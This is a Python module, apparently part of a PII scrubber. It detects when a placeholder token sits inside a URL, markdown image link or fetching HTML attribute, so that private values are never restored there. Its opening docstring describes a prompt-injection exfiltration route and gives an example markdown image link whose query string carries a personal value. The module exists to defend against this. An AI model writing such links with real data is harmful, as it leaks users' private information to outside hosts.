"""Places from which something may be fetched: a value restored inside one could leave by it.

A model can be talked into writing ``![](https://somewhere/?q=PERSON_7QXK)``. So nothing is restored inside a URL, an image
source or a fetching HTML attribute, and the scrubber in turn replaces such a place as a whole, from its very start.
"""

from __future__ import annotations

import re

WINDOW = 2300
"""Characters of text before a token that decide; nothing further back matters."""
_RUN = 2048
_BREAKS = " \t\n\r\x0b\x0c<>\"'`"
_BREAK = re.compile(f"[{_BREAKS}]")
_TARGET = re.compile(r"(?i)\]\(|\burl\(")
_ATTRIBUTE = re.compile(
    r"""(?i)\b(?:src|srcset|href|poster|action|formaction|background|cite|data|ping|xlink:href)\s{0,4}=\s{0,4}["']?$"""
)
_WEB = re.compile(r"(?i)[a-z][a-z0-9+.\-]{1,15}:/{2}|\bwww\.")
_LOCAL = re.compile(r"(?i)(?:mailto|tel|sms):[^?&]*$")


def link_start(before: str) -> int | None:
    """Where the link that a token right after ``before`` would stand *inside* begins, or None.

    A token that is the whole target from its first character is not inside: it stands for an address of the person's own.
    ``mailto:`` and ``tel:`` fetch nothing.
    """
    at = _run_start(before)
    run = before[at:]
    if not run or _LOCAL.match(run):
        return None
    web = _WEB.search(run)
    if web:
        return at + (_last_end(_TARGET, run[: web.start()]) or 0)
    target = _last_end(_TARGET, run)
    if target is not None:
        return None if target == len(run) or _LOCAL.match(run, target) else at + target
    attribute = _ATTRIBUTE.search(before, max(0, at - 40), at)
    if attribute:
        return at
    return _unquoted(before, at, run)


def link_end(after: str) -> int:
    """How many characters of ``after`` still belong to a link that runs on."""
    found = _BREAK.search(after, 0, _RUN)
    return found.start() if found else min(len(after), _RUN)


def _run_start(before: str) -> int:
    floor = max(0, len(before) - _RUN)
    return max(floor, 1 + max(before.rfind(char, floor) for char in _BREAKS))


def _unquoted(before: str, at: int, run: str) -> int | None:
    equals = run.find("=")
    if equals < 0 or equals + 1 == len(run):
        return None
    return at + equals + 1 if _ATTRIBUTE.search(before, max(0, at + equals - 20), at + equals + 1) else None


def _last_end(pattern: re.Pattern[str], text: str) -> int | None:
    ends = [match.end() for match in pattern.finditer(text)]
    return ends[-1] if ends else None
